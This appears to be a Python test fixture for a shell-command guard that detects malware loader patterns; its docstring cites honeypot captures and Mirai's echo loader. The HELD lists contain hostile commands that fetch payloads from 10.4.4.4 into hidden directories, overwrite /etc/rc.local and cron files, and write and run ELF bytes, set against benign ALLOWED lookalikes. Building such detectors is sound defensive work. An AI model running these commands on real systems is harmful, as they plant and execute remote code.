"""Loaders that run what arrived (loader18, session 16).

One table of transfer programs (``guards/transfers.py``: ``DOWNLOADERS`` and ``download``) is read by every
judge, so a transfer program's fetch saved where payloads hide, written over a system file, or run later
is seen whichever program it is. A line that tries ``cd A || cd B || ...`` is judged in the riskiest of the
directories (a run from ``/var/run`` or ``/dev/shm`` is asked whichever exists); a program written from
escaped bytes (``echo -ne '\\x7f\\x45...' > f``, Mirai's echo loader) and run is asked (a binary cannot be
read); a read from ``/dev/tcp`` is a download, in this call and later ones. Measured on loader lines from
honeypot write-ups, loader builders and captures found by code search (outside the repository:
/work/realworld/loader18). The commands here are variants written for the tests: other spellings, paths,
wrappers and programs than the ones measured.
"""

from __future__ import annotations

HELD = {
    "transfer-into-hiding-place": [
        "axel -q -o /dev/shm/.k/k http://10.4.4.4/k",
        "nice tftp -g -r m -l /var/run/.m/m 10.4.4.4",
        "timeout 9 nc 10.4.4.4 81 > /var/tmp/.x/u",
    ],
    "transfer-over-system-file": [
        "aria2c -d /etc/cron.d -o sync http://10.4.4.4/c",
        "tftp -g -r rc -l /etc/rc.local 10.4.4.4",
    ],
    "fallback-directories": [
        "cd /var/tmp || cd /run/shm || cd /; ./.kit -d",
        "cd /mnt || cd /dev/shm; chmod 700 upd; ./upd",
    ],
    "printed-binary-run": [
        "printf '\\177ELF\\002\\001\\001' > ./.d; chmod 755 ./.d; ./.d",
        "cd /var/tmp; busybox echo -e '\\x7fELF\\x01\\x01\\x01\\x00' > upd && chmod +x upd && nohup ./upd &",
        "echo -ne '\\x00\\x00\\x28\\x00\\x01' >> bin/agent; sh -c ./bin/agent",
    ],
}

ALLOWED = [
    "cd dist || cd build; ./app --version",
    "cd /tmp || exit 1; make -C ~/src/proj test",
    "printf '\\x1b[1mbold\\x1b[0m\\n' > banner.txt && cat banner.txt",
    "echo -e 'a\\tb\\nc' > table.tsv && column -t table.tsv",
    "printf '\\x7fELF' > magic.bin && xxd magic.bin",
    "axel -n 4 -o ~/Downloads/ubuntu.iso https://releases.ubuntu.com/24.04/ubuntu.iso",
]
